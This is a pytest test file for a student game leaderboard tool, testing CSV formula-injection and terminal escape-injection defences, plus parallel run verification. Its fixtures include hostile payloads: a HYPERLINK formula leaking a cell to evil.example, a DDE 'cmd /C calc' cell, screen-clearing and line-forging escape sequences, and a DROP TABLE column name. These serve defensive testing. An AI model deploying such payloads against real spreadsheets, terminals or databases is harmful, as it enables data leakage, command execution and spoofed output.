"""Leaderboards at class scale and safe output (issue 10, items 4, 5, 9 and 10).

- CSV formula injection (OWASP "CSV Injection"): text cells beginning with ``= + - @``, a tab, a
  carriage return or any control character get a leading single quote; numbers stay numbers.
- Terminal escape injection: names, titles, paths and reasons from files print with their
  control characters escaped (``game.safe_text.printable``) in ``add``, ``show``, ``verify`` and
  every error line; JSON output keeps the exact text, JSON-escaped.
- ``show`` and ``export`` read only the columns they print, and count each board's rows as they go.
- ``verify --workers N`` verifies in parallel and reports in argument order, with a progress bar
  only on a terminal. (Timings are in tests/benchmarks/test_bench_leaderboard.py.)
"""

from __future__ import annotations

import csv
import io
import json
import sys
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine import RULESET
from engine.bots import make_bot, run_bot
from engine.game import Game
from game import headless
from game.cli import main
from game.competition import Competition
from game.leaderboard import SHOW_COLUMNS, Entry, Store, _print_standings
from game.runfile import run_from_game, save_run
from game.safe_text import FORMULA_TRIGGERS, csv_text, printable
from scenarios import load_scenario

SCEN = "tutorial"
ESC = "\x1b"
# what a hostile student would type as a name: clear the screen, home the cursor, forge a line
CLEAR_AND_FORGE = "\x1b[2J\x1b[H\rREFUSED  everyone-else.json: does not verify\n"
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1", " =1+1", "\x00=1", "\x1b[2J"]


def _unsafe(ch: str) -> bool:
    return unicodedata.category(ch) in ("Cc", "Zl", "Zp") or ch in "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"


# ----------------------------------------------------------------------------- the helpers


@pytest.mark.parametrize("raw, shown", [
    ("\x1b[2J", "\\x1b[2J"),
    ("a\nb\rc\td", "a\\nb\\rc\\td"),
    ("\x7f\x00", "\\x7f\\x00"),
    ("\x9b2J", "\\x9b2J"),  # C1 CSI: one byte that starts an escape sequence on many terminals
    ("abc\u202edef", "abc\\u202edef"),  # right-to-left override ("Trojan Source")
    ("line\u2028sep", "line\\u2028sep"),
])
def test_printable_escapes_terminal_controls(raw, shown):
    """Issue 10 item 5: each control character is written as a visible escape."""
    assert printable(raw) == shown


@pytest.mark.parametrize("name", ["ada", "Zoë Ünal", "李小龙", "Ana 🚀", "O'Neil, \"Bo\"", "a\u00a0b", "back\\slash"])
def test_printable_keeps_ordinary_names_as_they_are(name):
    assert printable(name) == name


@given(st.text())
def test_printable_output_never_holds_a_control_character(text):
    """Issue 10 item 5, any text: what is printed holds no character a terminal acts on, and text
    without one is printed unchanged."""
    out = printable(text)
    assert not any(_unsafe(ch) for ch in out)
    if not any(_unsafe(ch) for ch in text):
        assert out == text


@pytest.mark.parametrize("cell", FORMULAS)
def test_csv_text_neutralizes_formula_cells(cell):
    """Issue 10 item 4 (OWASP CSV Injection): a single quote in front, the text otherwise kept."""
    assert csv_text(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["ada", "Zoë", "neocloud-2025", "Built real value", "runs/x.json", "a=b", "", "'quoted"])
def test_csv_text_keeps_ordinary_text(cell):
    assert csv_text(cell) == cell


@pytest.mark.parametrize("number", [-12.5, -3, 0, 7, 1e15, None])
def test_csv_text_leaves_numbers_numbers(number):
    assert csv_text(number) is number


@given(st.text())
def test_csv_text_never_starts_a_cell_with_a_formula_trigger(text):
    """Issue 10 item 4, any text: the cell read back by a CSV reader never begins (after blanks)
    with a trigger or a control character, and only a leading quote is ever added."""
    out = csv_text(text)
    assert out in (text, "'" + text)
    buf = io.StringIO()
    csv.writer(buf).writerow([out, 1])
    [back] = list(csv.reader(io.StringIO(buf.getvalue(), newline="")))
    first = back[0].lstrip(" ")[:1]
    assert back[0] == out
    assert not (first in FORMULA_TRIGGERS or (first and _unsafe(first)))


# ----------------------------------------------------------------------------- a store of hostile names


def _entry(i: int, player: str, seed: int, score_cents: int, scenario: str = SCEN, competition: str = "") -> Entry:
    sha = load_scenario(scenario).sha256
    quarters = [[f"2025Q{q + 1}", 1.0e6 * (q + 1), 0.5, 0.75, 1.5, 2.0e6] for q in range(4)]
    return Entry(scenario=scenario, scenario_sha256=sha, ruleset=RULESET, seed=seed, player=player, archetype="neocloud",
                 score_cents=score_cents, verdict="Built real value", quarters_played=4, bankrupt=False,
                 final_hash=f"{i:064x}", file_sha256=f"{i:064x}", source=f"runs/{player}.json",
                 scorecard_json=json.dumps(quarters), competition=competition)


@pytest.fixture
def hostile_store(tmp_path) -> Path:
    """Two boards: one holds a screen-clearing name and formula names, one a negative score."""
    db = tmp_path / "lb.sqlite3"
    names = [CLEAR_AND_FORGE, *FORMULAS[:4], "ada"]
    with Store(db) as store, store.transaction() as c:
        for i, name in enumerate(names):
            store._insert_one(c, _entry(i, name, seed=1, score_cents=1_000_000_00 * (i + 1)), "2026-01-01T00:00:00+00:00")
        store._insert_one(c, _entry(99, "bo", seed=2, score_cents=-12_345_67), "2026-01-01T00:00:00+00:00")
    return db


def test_show_prints_hostile_names_inert(hostile_store, capsys):
    """Issue 10 item 5: `leaderboard show` escapes the name instead of clearing the screen or
    forging a "REFUSED" line; every printed line is one row."""
    assert main(["leaderboard", "show", "--db", str(hostile_store)]) == 0
    out = capsys.readouterr().out
    assert ESC not in out and "\r" not in out
    assert "\\x1b[2J\\x1b[H\\rREFUSED  everyone-else.json: does not verify\\n" in out
    assert not any(line.startswith("REFUSED") for line in out.splitlines())
    assert len([ln for ln in out.splitlines() if ln.startswith("  ") and ". " in ln]) == 7


def test_show_json_keeps_the_exact_names_json_escaped(hostile_store, capsys):
    """Issue 10 item 5: JSON output is not mangled, only JSON-escaped (no raw control character)."""
    assert main(["leaderboard", "show", "--db", str(hostile_store), "--json"]) == 0
    out = capsys.readouterr().out
    assert ESC not in out
    assert CLEAR_AND_FORGE in {row["player"] for row in json.loads(out)}


def test_export_neutralizes_formulas_and_keeps_numbers(hostile_store, tmp_path):
    """Issue 10 item 4: player cells that a spreadsheet would run get a leading quote; the score,
    seed and per-quarter cells are still numbers (a negative score too)."""
    out = tmp_path / "grades.csv"
    assert main(["leaderboard", "export", "--db", str(hostile_store), "--csv", str(out)]) == 0
    with out.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == 7  # a name holding a line break or a carriage return is quoted: still one row
    players = {r["player"] for r in rows}
    for name in FORMULAS[:4]:
        assert "'" + name in players and name not in players
    assert "'" + CLEAR_AND_FORGE in players  # the exact name is kept behind the quote
    assert "ada" in players and "bo" in players
    for r in rows:
        assert not r["player"].lstrip(" ")[:1] in FORMULA_TRIGGERS
        float(r["score_usd"]), int(r["seed"]), float(r["q01_revenue"])
    assert {r["score_usd"] for r in rows if r["player"] == "bo"} == {"-12345.67"}


def test_export_to_a_terminal_escapes_control_characters(hostile_store, capsys, monkeypatch):
    """Issue 10 item 5: `export --csv -` on a terminal prints the CSV with controls escaped;
    piped, it is the exact file."""
    monkeypatch.setattr(sys.stdout, "isatty", lambda: True, raising=False)
    assert main(["leaderboard", "export", "--db", str(hostile_store), "--csv", "-"]) == 0
    shown = capsys.readouterr().out
    assert ESC not in shown and "\\x1b[2J" in shown
    monkeypatch.setattr(sys.stdout, "isatty", lambda: False, raising=False)
    assert main(["leaderboard", "export", "--db", str(hostile_store), "--csv", "-"]) == 0
    assert ESC in capsys.readouterr().out


def test_competition_standings_print_title_note_and_names_inert():
    """Issue 10 item 5: a competition's title and note (from the instructor's file) and the
    students' names are printed escaped."""
    comp = Competition.model_construct(id="c\x1b]0;pwned\x07", title="\x1b[2JWeek 6", scenario=SCEN, seed=1,
                                       policy="first", note="\x1b[31mred\x1b[0m")
    row = type("S", (), {})()
    row.rank, row.player, row.attempts, row.counted_attempt = 1, CLEAR_AND_FORGE, 1, 1
    row.counted = _entry(1, CLEAR_AND_FORGE, 1, 100)
    buf = io.StringIO()
    _print_standings(comp, [row], None, file=buf)
    out = buf.getvalue()
    assert ESC not in out and "\x07" not in out and "\r" not in out
    assert "\\x1b[2JWeek 6" in out and "\\x1b[31mred" in out and "\\x1b[2J\\x1b[H" in out
    assert len(out.splitlines()) == 3


# ----------------------------------------------------------------------------- linear show, fewer columns


def test_show_and_export_read_only_the_columns_they_print(hostile_store):
    """Issue 10 item 9: show's rows carry no scorecard (~4.5 KB a row it never prints)."""
    with Store(hostile_store) as store:
        light = store.entries(columns=SHOW_COLUMNS)
        full = store.entries()
    assert [(r, e.id, e.player, e.score_cents) for r, e in light] == [(r, e.id, e.player, e.score_cents) for r, e in full]
    assert all(e.scorecard_json == "[]" and e.scorecard_csv == "" and e.source == "" for _, e in light)
    assert all(len(e.scorecard) == 4 and e.scorecard_csv for _, e in full)
    with Store(hostile_store) as store, pytest.raises(ValueError, match="unknown"):
        store.entries(columns=("player; DROP TABLE runs",))


def test_show_counts_what_it_leaves_out_on_every_board(tmp_path, capsys):
    """Issue 10 item 9: with many boards, each board's "... and N more" is that board's own count
    (the counting is done as rows go by, not by rescanning every row per board)."""
    db = tmp_path / "lb.sqlite3"
    sizes = {seed: 1 + seed % 4 for seed in range(40)}  # 1 to 4 runs a board
    with Store(db) as store, store.transaction() as c:
        i = 0
        for seed, n in sizes.items():
            for k in range(n):
                store._insert_one(c, _entry(i, f"p{i}", seed, 1000 * (k + 1)), "2026-01-01T00:00:00+00:00")
                i += 1
    assert main(["leaderboard", "show", "--db", str(db), "--limit", "2"]) == 0
    out = capsys.readouterr().out
    blocks = out.strip().split("\n\n")
    assert len(blocks) == 40
    for block in blocks:
        seed = int(block.split("  seed ")[1].split()[0])
        lines = block.splitlines()
        assert f"({sizes[seed]} runs)" in lines[0]
        assert len([ln for ln in lines if ln.startswith("      ")]) == min(2, sizes[seed])
        more = sizes[seed] - 2
        assert (f"... and {more} more" in block) == (more > 0)


# ----------------------------------------------------------------------------- verify --workers


@pytest.fixture(scope="module")
def run_files(tmp_path_factory) -> dict[str, Path]:
    d = tmp_path_factory.mktemp("verify")
    loaded = load_scenario(SCEN)
    out = {}
    for bot, seed in [("passive", 1), ("barbell", 2), ("all-in", 3)]:
        game = run_bot(Game(loaded.scenario, seed), make_bot(bot), 3)
        out[bot] = save_run(run_from_game(game, loaded, player=bot, bot=bot), d / f"{bot}.json")
    data = json.loads(out["barbell"].read_text())
    data["quarters"][1]["state_hash"] = "0" * 64
    out["tampered"] = d / "tampered.json"
    out["tampered"].write_text(json.dumps(data))
    out["escape"] = d / "\x1b[2Jsneaky.json"  # a file name is text from the student too
    out["escape"].write_text(json.dumps(data))
    game = run_bot(Game(loaded.scenario, 4), make_bot("passive"))  # a finished game under a hostile name
    out["hostile"] = save_run(run_from_game(game, loaded, player=CLEAR_AND_FORGE), d / "hostile.json")
    return out


def test_verify_in_parallel_reports_in_argument_order(run_files, capsys, tmp_path):
    """Issue 10 item 10: the same lines, in the order of the arguments, on one worker or several;
    an unusable file is named on stderr (exit 2) and does not stop the others."""
    missing = tmp_path / "missing.json"
    args = [str(run_files["all-in"]), str(run_files["tampered"]), str(missing), str(run_files["passive"]),
            str(run_files["barbell"]), str(run_files["all-in"])]
    outs = []
    for workers in ("1", "2", "3"):
        assert main(["verify", "--workers", workers, *args]) == 2
        cap = capsys.readouterr()
        outs.append(cap)
        lines = cap.out.splitlines()
        assert [ln.split(": ")[0] for ln in lines] == [a for a in args if a != str(missing)]
        assert [ln.split(": ")[1][:6] for ln in lines] == ["OK (ve", "FAILED", "OK (ve", "OK (ve", "OK (ve"]
        assert cap.err.count("tycoon: error:") == 1 and str(missing) in cap.err
    assert outs[0] == outs[1] == outs[2]


def test_verify_exit_codes_and_workers_flag(run_files, capsys):
    assert main(["verify", "--workers", "2", str(run_files["passive"]), str(run_files["barbell"])]) == 0
    assert main(["verify", "--workers", "2", str(run_files["passive"]), str(run_files["tampered"])]) == 1
    capsys.readouterr()
    assert main(["verify", "--workers", "0", str(run_files["passive"])]) == 2
    assert "--workers" in capsys.readouterr().err


def test_verify_defaults_to_the_cores(run_files, monkeypatch, capsys):
    seen = []
    real = headless.verify_many
    monkeypatch.setattr(headless, "verify_many", lambda paths, scen, workers, cb: seen.append(workers) or real(paths, scen, 1, cb))
    assert main(["verify", str(run_files["passive"])]) == 0
    assert seen == [headless.default_workers()] and seen[0] >= 1


class _Tty(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_verify_progress_bar_only_on_a_terminal(run_files, monkeypatch, capsys):
    """Issue 10 item 10: a bar on stderr when it is a terminal, erased before the results; none
    when stderr is a file or a pipe (logs and graders stay clean)."""
    args = ["verify", "--workers", "2", str(run_files["passive"]), str(run_files["barbell"]), str(run_files["all-in"])]
    assert main(args) == 0
    assert capsys.readouterr().err == ""
    tty = _Tty()
    monkeypatch.setattr(sys, "stderr", tty)
    assert main(args) == 0
    err = tty.getvalue()
    assert "3/3" in err and err.count("\r[") == 3 and err.endswith("\r\x1b[K")
    assert capsys.readouterr().out.count(": OK (") == 3


def test_progress_bar_fills_with_the_count():
    assert headless.progress_bar(0, 4, width=8) == "\r[........] 0/4"
    assert headless.progress_bar(2, 4, width=8) == "\r[####....] 2/4"
    assert headless.progress_bar(4, 4, width=8) == "\r[########] 4/4"


def test_verify_and_add_print_file_names_and_reasons_inert(run_files, capsys, tmp_path):
    """Issue 10 item 5: a file name with an escape sequence, its reason, and error lines."""
    assert main(["verify", "--workers", "1", str(run_files["escape"])]) == 1
    out = capsys.readouterr().out
    assert ESC not in out and "\\x1b[2Jsneaky.json: FAILED" in out
    assert main(["verify", str(tmp_path / "\x1b[2Jgone.json")]) == 2
    err = capsys.readouterr().err
    assert ESC not in err and "\\x1b[2Jgone.json" in err
    assert main(["leaderboard", "add", "--db", str(tmp_path / "lb.sqlite3"), "--workers", "1",
                 str(run_files["escape"]), str(run_files["passive"]), str(run_files["hostile"])]) == 1
    out = capsys.readouterr().out
    lines = out.splitlines()
    assert ESC not in out and "\r" not in out
    assert [ln.split()[0] for ln in lines[:3]] == ["REFUSED", "REFUSED", "added"]  # the 3-quarter game is unfinished
    assert "\\x1b[2Jsneaky.json" in lines[0]
    assert "\\x1b[2J\\x1b[H\\rREFUSED  everyone-else.json" in lines[2]
    assert "1 added, 2 refused" in lines[3]


def _die(job):  # a worker killed mid-run (out of memory, a signal)
    import os

    if job[0].endswith("tampered.json"):
        os._exit(9)
    return headless.verify_one(*job)


def test_verify_names_a_file_whose_worker_died_instead_of_a_traceback(run_files, monkeypatch, capsys):
    """Issue 10 item 10: a worker process that dies is reported as an error for its files (exit
    2), never a traceback."""
    monkeypatch.setattr(headless, "_verify_star", _die)
    rc = main(["verify", "--workers", "2", str(run_files["passive"]), str(run_files["tampered"])])
    cap = capsys.readouterr()
    assert rc == 2 and "Traceback" not in cap.err
    assert "tampered.json: could not be verified (its worker process stopped" in cap.err
    assert "passive.json: OK" in cap.out  # the other file's verification survives the dead worker
